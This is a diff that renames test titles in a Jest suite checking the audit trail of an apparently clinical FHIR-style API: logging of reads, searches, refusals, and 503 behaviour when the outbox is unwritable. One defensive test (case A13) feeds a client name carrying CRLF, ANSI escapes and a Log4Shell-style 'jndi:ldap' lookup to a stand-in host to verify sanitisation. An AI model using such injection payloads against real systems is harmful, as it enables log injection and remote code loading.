@@ -26,7 +26,7 @@ describe('the trail', () => {
     return found[0];
   }
 
-  it('says of a read who, what, for whom, by what right, and what left the house', async () => {
+  it('records for a read who read what, for whom, with which scope, and the hash of the body', async () => {
     const { requestId, text } = await anna('Observation/o-1', {
       headers: { 'x-forwarded-for': '192.0.2.7' },
     });
@@ -60,7 +60,7 @@ describe('the trail', () => {
     });
   });
 
-  it('says of a search how many, and never what', async () => {
+  it('records for a search how many resources it returned, and none of their content', async () => {
     const { requestId } = await anna('Observation?code=8867-4&_total=accurate');
     const event = await eventOf(requestId);
     expect(event).toMatchObject({ action: 'search-type', counts: { Observation: 2 }, outcome: '0' });
@@ -68,7 +68,7 @@ describe('the trail', () => {
     expect(JSON.stringify(await world.events())).not.toContain('a secret');
   });
 
-  it('has a count as a disclosure of its own (case F13)', async () => {
+  it('records a count as a disclosure (case F13)', async () => {
     const { requestId } = await anna('Observation?_summary=count');
     expect(await eventOf(requestId)).toMatchObject({
       outcome: '0',
@@ -85,14 +85,14 @@ describe('the trail', () => {
     ['Observation?_include=x', '4', 'parameter-unsupported', 'search-type'],
     ['Patient/ben/$everything', '4', 'not-found', 'search-type'],
     ['nonsense', '4', 'not-found', 'search-type'],
-  ])('has the refusal of %s', async (path, outcome, reason, action) => {
+  ])('records the refusal of %s', async (path, outcome, reason, action) => {
     const { requestId } = await anna(path);
     const event = await eventOf(requestId);
     expect(event).toMatchObject({ outcome, reason, action, member: 'anna', request: `GET ${path}` });
     for (const name of ['resource', 'counts', 'bodyHash']) expect(event).not.toHaveProperty(name);
   });
 
-  it('names another member nowhere but in the request as it was made', async () => {
+  it('names another member only in the text of the request', async () => {
     for (const path of [
       'Observation/ben-1',
       'Observation?patient=ben',
@@ -104,7 +104,7 @@ describe('the trail', () => {
     }
   });
 
-  it('has refusals for want of scope', async () => {
+  it('records refusals for a missing scope', async () => {
     const app = await asMember(world, 'north', 'anna', { scope: 'patient/Condition.rs' });
     const { requestId } = await app('Observation/o-1');
     expect(await eventOf(requestId)).toMatchObject({
@@ -114,14 +114,14 @@ describe('the trail', () => {
     });
   });
 
-  it('has refusals of tokens without a member, as nobody’s', async () => {
+  it('records refusals of tokens without a member, and names no member', async () => {
     const app = await asking(world, world.issuer.claims('north', undefined));
     const { requestId, status } = await app('Observation/o-1');
     expect(status).toBe(403);
     expect(await eventOf(requestId)).not.toHaveProperty('member');
   });
 
-  it('takes no control characters and no end of text from a client (case A13)', async () => {
+  it('removes control characters from client texts and shortens them (case A13)', async () => {
     const app = await asMember(world, 'north', 'anna', {
       client_name: `Diary\r\n\u001b[31m\u2028\${jndi:ldap://evil.example/a}${'x'.repeat(600)}`,
     });
@@ -136,7 +136,7 @@ describe('the trail', () => {
     expect(JSON.stringify(event)).not.toMatch(/\\r|\\n|\\u001b|\u2028|zzz/);
   });
 
-  it('has the body of a search by POST beside its URL', async () => {
+  it('records the body of a search by POST together with its URL', async () => {
     const headers = { 'content-type': 'application/x-www-form-urlencoded' };
     const { requestId } = await anna('Observation/_search?_count=1', {
       method: 'POST',
@@ -146,13 +146,13 @@ describe('the trail', () => {
     expect(await eventOf(requestId)).toMatchObject({ request: 'POST Observation/_search?_count=1&code=x' });
   });
 
-  it('has nothing of callers without a credential: those are counted elsewhere', async () => {
+  it('records nothing for callers without a credential, which the gateway counts', async () => {
     const before = (await world.events()).length;
     await anna('Observation/o-1', { headers: { authorization: 'Bearer x' } });
     expect(await world.events()).toHaveLength(before);
   });
 
-  it('has one event for each of many requests at once', async () => {
+  it('records one event for each of many concurrent requests', async () => {
     const answers = await Promise.all(Array.from({ length: 100 }, () => anna('Observation/o-1')));
     const ids = new Set((await world.events()).map(({ requestId }) => requestId));
     for (const { status, requestId } of answers) expect([status, ids.has(requestId)]).toEqual([200, true]);
@@ -177,19 +177,22 @@ describe('when the trail cannot be written (case A04)', () => {
     'Observation/zzz',
   ];
 
-  it.each(PATHS)('%s is a 503 without a byte of data, and works again afterwards', async (path) => {
-    await world.admin.query('REVOKE INSERT ON outbox FROM clinical_service');
-    const answer = await anna(path);
-    await world.admin.query('GRANT INSERT ON outbox TO clinical_service');
-    expect([answer.status, answer.headers['retry-after']]).toEqual([503, '2']);
-    expect(JSON.parse(answer.text)).toMatchObject({ issue: [{ code: 'transient' }] });
-    expect(JSON.stringify(answer.headers) + answer.text).not.toMatch(
-      /secret|Observation|total|W\/"|permission|outbox/,
-    );
-    expect((await anna(path)).status).toBe(path.endsWith('zzz') ? 404 : 200);
-  });
+  it.each(PATHS)(
+    'answers %s with 503 and no data, and with data when the outbox is writable again',
+    async (path) => {
+      await world.admin.query('REVOKE INSERT ON outbox FROM clinical_service');
+      const answer = await anna(path);
+      await world.admin.query('GRANT INSERT ON outbox TO clinical_service');
+      expect([answer.status, answer.headers['retry-after']]).toEqual([503, '2']);
+      expect(JSON.parse(answer.text)).toMatchObject({ issue: [{ code: 'transient' }] });
+      expect(JSON.stringify(answer.headers) + answer.text).not.toMatch(
+        /secret|Observation|total|W\/"|permission|outbox/,
+      );
+      expect((await anna(path)).status).toBe(path.endsWith('zzz') ? 404 : 200);
+    },
+  );
 
-  it('sends nothing before the row is durable, whenever it dies (case A01), and does not wait for delivery', async () => {
+  it('sends nothing before the event is durable, and does not wait for its delivery (case A01)', async () => {
     const lock = await world.admin.connect();
     await lock.query('BEGIN');
     await lock.query('LOCK TABLE outbox IN SHARE MODE');
